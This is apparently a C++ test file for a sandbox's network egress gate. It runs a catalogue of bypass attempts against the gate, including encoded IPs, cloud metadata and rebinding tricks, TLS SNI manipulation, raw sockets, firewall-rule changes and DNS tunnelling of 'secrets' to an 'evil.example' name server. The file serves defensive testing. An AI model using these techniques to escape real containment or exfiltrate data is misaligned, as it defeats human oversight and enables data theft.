// Programs that try to get around the gate, each also run where there is none: in a plain namespace with a default
// route it must get through, so that its failure inside means something.
//
// Inside, the policy is kPolicy. An evasion returns what it got ("hello from …", bytes that came back) or "-" and why
// not; some are judged by what arrived outside.
#include <linux/netlink.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>
#include <sys/ioctl.h>

#include "gate/test_world.h"
#include "kernel/netlink.h"
#include "kernel/netlink_route.h"
#include "kernel/nftables.h"

namespace isola::gate::testing {
namespace {

constexpr char kPolicy[] =
    "allow a.example:7,443\n"
    "allow rebind.example\n"
    "allow *.wild.example\n"
    "allow *.tunnel.example\n";
constexpr char kForbidden[] = "203.0.113.11";  // where b.example is

struct Inside {
  std::string dns;  // whom to ask
  bool plain;       // there is no gate
  std::string resolve(std::string_view name, uint16_t type = 1) const {
    return testing::resolve(name, type, false, dns);
  }
};

std::string failed(const std::string& why) { return "-" + why; }
// What came back, if it is an answer of somebody outside.
std::string got(const std::string& text) {
  return text.empty() || text[0] == 'E' ? failed(text) : text;  // the name of an errno
}
std::string greet(const std::string& address) { return got(talk_to(address, kGreetPort, "")); }
// Through a name that is allowed, with a hello for one that is not.
std::string fronted(const Inside& in, const std::string& hello, size_t pieces = 0) {
  auto address = in.resolve("a.example");
  if (!Address::parse(address)) return failed(address);
  return got(talk_to(address, kTlsPort, hello, pieces));
}
std::string address_of(const Inside& in, std::string_view name) {
  auto address = in.resolve(name);
  return Address::parse(address) ? address : failed(address);
}
std::string outcome(int result) { return result < 0 ? failed(error_name(errno)) : "worked"; }

Fd connected_after(int family, int protocol, const std::function<int(int)>& prepare) {
  Fd fd(::socket(family, SOCK_STREAM | SOCK_CLOEXEC, protocol));
  if (!fd || prepare(fd.get()) < 0) return Fd();
  patience(fd);
  auto to = Address::parse(kForbidden)->with_port(kGreetPort);
  if (::connect(fd.get(), to.get(), to.size) < 0) return Fd();
  return fd;
}
std::string greet_after(int protocol, const std::function<int(int)>& prepare) {
  Fd fd = connected_after(AF_INET, protocol, prepare);
  return fd ? got(read_to_end(fd)) : failed(error_name(errno));
}

std::string raw_socket(int family, int type, int protocol) {
  Fd fd(::socket(family, type | SOCK_CLOEXEC, protocol));
  return outcome(fd.get());
}

std::string ping(const Inside&) {
  Fd fd(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
  if (!fd) fd = Fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP));
  if (!fd) return failed(error_name(errno));
  icmphdr echo{};
  echo.type = ICMP_ECHO;
  echo.checksum = static_cast<uint16_t>(~ICMP_ECHO);
  auto to = Address::parse(kForbidden)->with_port(0);
  if (::sendto(fd.get(), &echo, sizeof echo, 0, to.get(), to.size) < 0) return failed(error_name(errno));
  pollfd ready{fd.get(), POLLIN, 0};
  return ::poll(&ready, 1, 2000) == 1 ? "an answer" : failed("no answer");
}

std::string udp(const Inside&) {
  Fd fd = dial(kForbidden, kUdpPort, SOCK_DGRAM);
  if (!fd) return failed(error_name(errno));
  if (::send(fd.get(), "x", 1, 0) < 0) return failed(error_name(errno));
  char c;
  return ::recv(fd.get(), &c, 1, 0) == 1 ? "an answer" : failed(error_name(errno));
}

std::string fast_open(const Inside&) {
  auto to = Address::parse(kForbidden)->with_port(kGreetPort);
  Fd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  patience(fd);
  if (::sendto(fd.get(), "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, to.get(), to.size) < 0) return failed(error_name(errno));
  return got(read_to_end(fd));
}

std::string add_address(const Inside&) {
  kernel::NetlinkBatch batch;
  (void)kernel::add_address(batch, kernel::kLoopbackIndex, "10.9.9.9");
  auto done = kernel::NetlinkSocket::open(NETLINK_ROUTE)->run(batch);
  return done ? "worked" : failed(error_name(done.error().sys_errno));
}
std::string add_rules(const Inside&) {
  kernel::NftBatch batch("evil");
  batch.chain({.name = "x"});
  batch.rule("x", kernel::NftRule().accept());
  auto done = kernel::NetlinkSocket::open(NETLINK_NETFILTER)->run(batch.take());
  return done ? "worked" : failed(error_name(done.error().sys_errno));
}
std::string set_link(const Inside&) {
  Fd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  ifreq request{};
  std::snprintf(request.ifr_name, sizeof request.ifr_name, "lo");
  if (::ioctl(fd.get(), SIOCGIFFLAGS, &request) < 0) return failed(error_name(errno));
  return outcome(::ioctl(fd.get(), SIOCSIFFLAGS, &request));  // as they are: harmless where it is allowed
}

std::string squat(int type, uint16_t port, bool six) {
  auto at = Address::parse(six ? "::1" : "127.0.0.1")->with_port(port);
  Fd fd(::socket(at.storage.ss_family, type | SOCK_CLOEXEC, 0));
  int one = 1;
  for (int option : {SO_REUSEADDR, SO_REUSEPORT}) ::setsockopt(fd.get(), SOL_SOCKET, option, &one, sizeof one);
  return outcome(::bind(fd.get(), at.get(), at.size));
}

// Questions that carry something in their names; judged by what the name server saw.
std::string ask_for(const Inside& in, const std::string& name, int count, const std::string& server = "") {
  for (int i = 0; i < count; ++i)
    testing::resolve((count > 1 ? "n" + std::to_string(i) + "." : "") + name, 1, false,
                     server.empty() ? in.dns : server);
  return "asked";
}

std::string tls_in_records(const std::string& name, size_t each) {
  auto whole = tls_hello(name);
  std::string message = whole.substr(5), out;
  for (size_t at = 0; at < message.size(); at += each) {
    auto piece = message.substr(at, each);
    out += "\x16\x03\x01"s + static_cast<char>(piece.size() >> 8) + static_cast<char>(piece.size()) + piece;
  }
  return out;
}
std::string two_names() {
  std::string entry = "\0\0\x09"s + "a.example", other = "\0\0\x09"s + "b.example";
  std::string list = entry + other;
  return tls_hello("",
                   "\0\0"s + '\0' + static_cast<char>(list.size() + 2) + '\0' + static_cast<char>(list.size()) + list);
}

struct Evasion {
  const char* name;
  std::function<std::string(const Inside&)> run;
  const char* seen = nullptr;  // breach: this many or more names with this text reached the name server
  size_t seen_most = 0;        // … more than so many
  const char* no_control = nullptr;
};

std::vector<Evasion> evasions() {
  return {
      {"raw-ip", [](const Inside&) { return greet(kForbidden); }},
      {"raw-ip6", [](const Inside&) { return greet("2001:db8:5::10"); }},
      {"address-of-an-allowed-name", [](const Inside&) { return greet("203.0.113.10"); }},
      {"ip-as-one-number",
       [](const Inside&) {
         in_addr a{};
         if (!::inet_aton("3405803787", &a)) return failed("unreadable");
         return greet(Address::v4(ntohl(a.s_addr)).text());
       }},
      {"ip-in-hex-and-octal",
       [](const Inside&) {
         in_addr a{};
         if (!::inet_aton("0xcb.0.0161.11", &a)) return failed("unreadable");
         return greet(Address::v4(ntohl(a.s_addr)).text());
       }},
      {"v4-mapped-v6",
       [](const Inside&) {
         sockaddr_in6 to{};
         to.sin6_family = AF_INET6, to.sin6_port = htons(kGreetPort);
         ::inet_pton(AF_INET6, "::ffff:203.0.113.11", &to.sin6_addr);
         Fd fd(::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0));
         patience(fd);
         if (::connect(fd.get(), reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) return failed(error_name(errno));
         return got(read_to_end(fd));
       }},
      {"metadata-address", [](const Inside&) { return greet("169.254.169.254"); }},
      {"metadata-address6", [](const Inside&) { return greet("fd00:ec2::254"); }},
      {"private-address", [](const Inside&) { return greet("10.5.0.1"); }},
      {"rebinding", [](const Inside& in) { return greet(in.resolve("rebind.example")); }},
      {"denied-name", [](const Inside& in) { return greet(in.resolve("b.example")); }},
      {"denied-name-by-tcp", [](const Inside& in) { return address_of({in.dns, in.plain}, "b.example"); }},
      {"alternative-port", [](const Inside& in) { return greet(in.resolve("a.example")); }},
      {"suffix-trick", [](const Inside& in) { return address_of(in, "a.example.evil.example"); }},
      {"prefix-trick", [](const Inside& in) { return address_of(in, "evil-a.example"); }},
      {"wildcard-itself", [](const Inside& in) { return address_of(in, "wild.example"); }},
      {"wildcard-neighbour", [](const Inside& in) { return address_of(in, "notwild.example"); }},
      {"unicode-host", [](const Inside& in) { return address_of(in, "\xef\xbd\x82.example"); }},
      {"nul-host", [](const Inside& in) { return address_of(in, "b.example\0.a.example"s); }},
      {"sni-of-another", [](const Inside& in) { return fronted(in, tls_hello("b.example")); }},
      {"sni-missing", [](const Inside& in) { return fronted(in, tls_hello("")); }},
      {"sni-byte-by-byte", [](const Inside& in) { return fronted(in, tls_hello("b.example"), 1); }},
      {"sni-in-many-records", [](const Inside& in) { return fronted(in, tls_in_records("b.example", 3)); }},
      {"sni-behind-much",
       [](const Inside& in) {
         return fronted(in, tls_hello("b.example", "\x00\x29\xc3\x50"s + std::string(50000, 'p')));
       }},
      {"sni-with-nul", [](const Inside& in) { return fronted(in, tls_hello("a.example\0.b.example"s)); }},
      {"sni-two-names", [](const Inside& in) { return fronted(in, two_names()); }},
      {"sni-encrypted", [](const Inside& in) { return fronted(in, tls_hello("a.example", "\xfe\x0d\0\1x"s)); }},
      {"alert-before-hello",
       [](const Inside& in) { return fronted(in, "\x15\x03\x01\x00\x02\x01\x70"s + tls_hello("b.example")); }},
      {"hello-of-ssl2", [](const Inside& in) { return fronted(in, "\x80\x2e\x01\x03\x01"s + std::string(43, 'x')); }},
      {"hello-too-large",
       [](const Inside& in) {
         std::string much;
         for (int i = 0; i < 3; ++i) much += "\x7f"s + static_cast<char>(i) + "\xc3\x50"s + std::string(50000, 'p');
         return fronted(in, tls_hello("b.example", much));
       }},
      {"udp", udp},
      {"ping", ping},
      {"raw-socket", [](const Inside&) { return raw_socket(AF_INET, SOCK_RAW, IPPROTO_TCP); }},
      {"packet-socket", [](const Inside&) { return raw_socket(AF_PACKET, SOCK_RAW, 0); }},
      {"fast-open", fast_open},
      {"bound-to-a-device",
       [](const Inside& in) {
         return greet_after(
             0, [&](int fd) { return ::setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, in.plain ? "g" : "lo", 2); });
       }},
      {"marked-packets",
       [](const Inside&) {
         return greet_after(0, [](int fd) {
           int mark = 1;
           return ::setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof mark);
         });
       }},
      {"multipath-tcp", [](const Inside&) { return greet_after(262, [](int) { return 0; }); }},
      {"dns-to-a-server-of-ones-own",
       [](const Inside& in) { return ask_for(in, "s3cret.evil.example", 1, kNameServer); }, "s3cret"},
      {"dns-tunnel-denied", [](const Inside& in) { return ask_for(in, "d4ta.evil.example", 20); }, "d4ta"},
      {"dns-tunnel-below-a-wildcard", [](const Inside& in) { return ask_for(in, "tunnel.example", 400); }, "tunnel",
       300},
      {"squat-the-gate", [](const Inside&) { return squat(SOCK_STREAM, boundary::kGatePort, false); }},
      {"squat-the-gate6", [](const Inside&) { return squat(SOCK_STREAM, boundary::kGatePort, true); }},
      {"squat-the-resolver", [](const Inside&) { return squat(SOCK_DGRAM, boundary::kDnsPort, false); }},
      {"dial-the-gate", [](const Inside&) { return outcome(dial("127.0.0.1", boundary::kGatePort).get()); }, nullptr, 0,
       "nothing listens there without a gate"},
      {"ask-the-gate-directly",
       [](const Inside&) {
         Fd fd = dial("127.0.0.1", boundary::kDnsPort, SOCK_DGRAM);
         return outcome(static_cast<int>(::send(fd.get(), "x", 1, 0)));
       }},
      {"change-addresses", add_address},
      {"change-rules", add_rules},
      {"change-the-link", set_link},
  };
}

class EvasionTest : public ::testing::TestWithParam<Evasion> {
 protected:
  // One world for all: nothing that they do may last.
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    world = std::make_unique<World>();
    auto& out = *world->outside;
    out.set("a.example", {"203.0.113.10"});
    out.set("rebind.example", {"169.254.169.254"});
    for (const char* name :
         {"b.example", "a.example.evil.example", "evil-a.example", "wild.example", "notwild.example", ""})
      out.set(name, {kForbidden});  // "": whatever is no name at all
  }
  static void TearDownTestSuite() { world.reset(); }
  void SetUp() override {
    if (!world) GTEST_SKIP() << "needs root";
  }
  // Got through?
  bool through(const Evasion& evasion, const std::string& result, size_t before) const {
    if (!evasion.seen) return result[0] != '-';
    size_t seen = 0;
    auto asked = world->outside->asked();
    for (size_t i = before; i < asked.size(); ++i) seen += asked[i].find(evasion.seen) != std::string::npos;
    return seen > evasion.seen_most;
  }
  static std::unique_ptr<World> world;
};
std::unique_ptr<World> EvasionTest::world;

TEST_P(EvasionTest, DoesNotGetThrough) {
  const auto& evasion = GetParam();
  Box box = world->box(kPolicy);
  size_t before = world->outside->asked().size();
  auto result = box.run([&] { return evasion.run({boundary::kOwnAddress4, false}); });
  ASSERT_FALSE(result.empty()) << "it crashed";
  EXPECT_FALSE(through(evasion, result, before)) << result;
  world->remove(box);
}

TEST_P(EvasionTest, GetsThroughWhereThereIsNoGate) {
  const auto& evasion = GetParam();
  if (evasion.no_control) GTEST_SKIP() << evasion.no_control;
  size_t before = world->outside->asked().size();
  auto result = world->run_plainly([&] { return evasion.run({kNameServer, true}); });
  ASSERT_FALSE(result.empty()) << "it crashed";
  EXPECT_TRUE(through(evasion, result, before)) << result;
}

INSTANTIATE_TEST_SUITE_P(All, EvasionTest, ::testing::ValuesIn(evasions()), [](const auto& info) {
  std::string name = info.param.name;
  std::replace(name.begin(), name.end(), '-', '_');
  return name;
});

TEST_F(EvasionTest, AndWhatIsAllowedWorks) {
  Box box = world->box(kPolicy);
  EXPECT_EQ(box.run([] { return talk("a.example", kEchoPort, "hello"); }), "hello");
  auto hello = tls_hello("a.example");
  EXPECT_EQ(box.run([&] { return talk("a.example", kTlsPort, hello); }), hello);
}

}  // namespace
}  // namespace isola::gate::testing
